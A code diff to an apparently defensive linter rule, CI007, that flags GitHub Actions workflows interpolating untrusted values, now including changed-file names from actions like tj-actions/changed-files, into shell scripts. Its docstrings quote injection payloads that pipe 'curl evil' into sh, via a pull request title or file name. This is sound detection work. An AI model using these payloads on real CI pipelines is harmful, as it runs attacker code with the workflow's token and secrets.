@@ -37,16 +37,40 @@ def _sources(repo: Repo) -> Iterator[tuple[str, dict[str, Any]]]:
         yield name, {"jobs": {"action": mapping(action.get("runs"))}}
 
 
-def _scripts(data: dict[str, Any]) -> Iterator[str]:
-    """The shell of every ``run:`` and the JavaScript of every ``actions/github-script``."""
+_CHANGED_FILES = (
+    "tj-actions/changed-files@", "step-security/changed-files@", "dorny/paths-filter@",
+    "jitterbit/get-changed-files@", "Ana06/get-changed-files@",
+)  # fmt: skip
+"""Actions whose outputs list the files a push or pull request changed: names an outsider
+chooses (``$(curl evil | sh).yaml`` is a valid one)."""
+
+
+def _scripts(data: dict[str, Any]) -> Iterator[tuple[str, str]]:
+    """The shell of every ``run:`` and the JavaScript of every ``actions/github-script``,
+    each with the ids of its job's steps whose outputs are changed files' names."""
     for job in mapping(data.get("jobs")).values():
+        changed = "|".join(
+            re.escape(str(step["id"]))
+            for step in steps(job)
+            if "id" in step and str(step.get("uses", "")).startswith(_CHANGED_FILES)
+        )
         for step in steps(job):
             if isinstance(step.get("run"), str):
-                yield step["run"]
+                yield step["run"], changed
             if str(step.get("uses", "")).startswith("actions/github-script@"):
                 script = mapping(step.get("with")).get("script")
                 if isinstance(script, str):
-                    yield script
+                    yield script, changed
+
+
+def _untrusted(expression: str, changed: str) -> bool:
+    """Whether ``expression`` is input an outsider controls: a context of :data:`_UNTRUSTED`,
+    or a list of changed files (``steps.<changed>.outputs.*files``)."""
+    if _UNTRUSTED.search(expression):
+        return True
+    return bool(changed) and bool(
+        re.search(rf"\bsteps\.({changed})\.outputs\.[\w-]*files\b", expression)
+    )
 
 
 def _expressions(script: str) -> Iterator[str]:
@@ -64,7 +88,9 @@ def _expressions(script: str) -> Iterator[str]:
 class CI007(CI):
     """`${{ github.event.pull_request.title }}` (a branch name, a comment, a commit message)
     in a `run:` script is pasted into the shell before it runs: a pull request titled
-    ``"; curl evil | sh #`` runs its code with the workflow's token and secrets. Pass such
+    ``"; curl evil | sh #`` runs its code with the workflow's token and secrets. So do the
+    names of the files a pull request changes, as `tj-actions/changed-files` or
+    `dorny/paths-filter` list them in their outputs. Pass such
     values through `env:` and use `"$TITLE"`. Workflows, local composite actions and
     `actions/github-script` scripts are read.
     """
@@ -84,9 +110,9 @@ class CI007(CI):
         found = [
             (name, expression.strip())
             for name, data in _sources(repo)
-            for script in _scripts(data)
+            for script, changed in _scripts(data)
             for expression in _expressions(script)
-            if _UNTRUSTED.search(expression)
+            if _untrusted(expression, changed)
         ]
         if not found:
             return True
